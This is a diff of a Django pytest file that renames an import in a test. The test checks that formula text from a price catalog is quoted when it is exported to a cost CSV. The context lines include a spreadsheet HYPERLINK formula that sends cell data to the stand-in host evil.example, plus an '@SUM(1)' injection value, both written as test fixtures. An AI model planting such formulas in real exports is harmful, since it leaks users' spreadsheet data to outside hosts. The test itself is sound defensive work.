@@ -9,7 +9,7 @@ import pytest
 from django.test import Client
 from django.urls import reverse
 
-from advisor import decisions
+from advisor.decisions import evaluation
 from advisor.reference.models import Catalog
 from advisor.reference.services.catalog import catalog_clone, catalog_publish
 from advisor.reporting.csv import csv_cell
@@ -24,7 +24,7 @@ LINK = '=HYPERLINK("https://evil.example/?d="&A1,"Open the price sheet")'
 
 
 def test_formula_text_from_the_catalog_is_quoted_in_the_cost_csv(client: Client) -> None:
-    chosen = decisions.evaluate(STARTERS[STARTER].document(), language="en")["cost"]
+    chosen = evaluation.evaluate(STARTERS[STARTER].document(), language="en")["cost"]
     accelerator_id = chosen["by_workload"][0]["accelerator_id"]
     draft = catalog_clone(catalog=Catalog.objects.get(status="published"), user=None)
     draft.prices.filter(accelerator__key=accelerator_id).update(source=LINK, provider="@SUM(1)")
